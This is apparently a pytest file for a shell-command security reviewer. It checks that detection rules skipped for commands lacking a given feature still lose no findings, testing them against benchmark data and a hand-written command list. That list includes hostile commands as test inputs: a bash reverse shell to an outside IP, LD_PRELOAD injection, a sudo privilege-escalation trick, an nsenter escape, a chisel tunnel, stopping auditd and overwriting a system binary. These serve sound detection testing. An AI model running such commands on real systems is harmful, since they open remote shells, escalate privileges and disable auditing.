"""The shell rules are asked only about commands that can give them something: a GENERIC rule
named in a module's NEEDS (rules/common.py's Needs) is skipped for a command without that
feature. Skipping must never lose a prediction, so each such rule is run here on every command
of the repository's development and adversarial shell data (and a few written for the purpose)
that lacks what it needs, and must find nothing there; and it must still find what it finds on a
command that has the feature."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path

import pytest

from forethought.review.shell.model import ShellAnalysis, SimpleCommand
from forethought.review.shell.parse import analyze
from forethought.review.shell.rules import GENERIC, NEEDS, features, generic_rules
from forethought.review.shell.rules.common import Needs

DATA = Path(__file__).resolve().parents[1] / "benchmarks" / "data"
# Commands that have several features at once or just miss one (an export with no variable of
# note, a redirect into a socket path, a program by path, a loop that is not endless).
WRITTEN = [
    "X=1 PAGER=less git log > /tmp/out.txt",
    "export LD_PRELOAD=/tmp/x.so",
    "env LD_PRELOAD=/tmp/x.so ls",
    "sudo -u#-1 id",
    "sudo -R /tmp/root id",
    "nsenter -t 1 -m -u -i -n -p -- id",
    "systemd-run --on-calendar=hourly /usr/bin/touch /tmp/x",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "/etc/init.d/ssh restart",
    "/etc/init.d/auditd stop",
    "./chisel client 203.0.113.5:8000 R:socks",
    "while true; do sleep 1 & done",
    "for i in 1 2 3; do echo $i; done",
    "echo 'trust-model always' >> ~/.gnupg/gpg.conf",
    "cp evil /usr/local/bin/ls",
    "mysqldump shop > /var/www/html/shop.sql",
]


@cache
def _commands() -> list[tuple[SimpleCommand, ShellAnalysis]]:
    texts = list(WRITTEN)
    for path in [DATA / "shell-adversarial.jsonl", *sorted(DATA.glob("dev-*/*.jsonl"))]:
        for line in path.read_text(encoding="utf-8").splitlines():
            row = json.loads(line) if line.strip() else {}
            if row.get("tool") in ("bash", "shell"):
                texts.append(str(row["args"]["command"]))
            for step in row.get("steps") or ():
                if isinstance(step, dict) and step.get("tool") in ("bash", "shell"):
                    texts.append(str(step.get("args", {}).get("command", "")))
    found = []
    for text in texts:
        try:
            analysis = analyze(text)
        except ValueError:
            continue
        found.extend((cmd, analysis) for cmd in analysis.commands)
    return found


def _name(rule: object) -> str:
    return f"{getattr(rule, '__module__', '').rsplit('.', 1)[-1]}.{getattr(rule, '__name__', '')}"


@pytest.mark.parametrize("rule", sorted(NEEDS, key=_name), ids=_name)
def test_a_rule_finds_nothing_in_a_command_without_what_it_needs(rule: object) -> None:
    need = NEEDS[rule]  # type: ignore[index]
    without = [(c, a) for c, a in _commands() if not features(c) & need]
    assert len(without) > 1_000
    for cmd, analysis in without:
        assert not list(rule(cmd, analysis)), (  # type: ignore[operator]
            f"{_name(rule)} found something in {cmd.text!r}, which lacks {need!r}"
        )


@pytest.mark.parametrize("rule", sorted(NEEDS, key=_name), ids=_name)
def test_a_rule_still_finds_what_it_finds_where_the_command_has_it(rule: object) -> None:
    assert rule in GENERIC
    having = [(c, a) for c, a in _commands() if features(c) & NEEDS[rule]]  # type: ignore[index]
    assert any(rule in generic_rules(c) and list(rule(c, a)) for c, a in having), (  # type: ignore[operator]
        f"{_name(rule)} found nothing on any command with its feature: the test data misses it"
    )


def test_each_need_is_a_single_feature() -> None:
    assert all(need in list(Needs) for need in NEEDS.values())
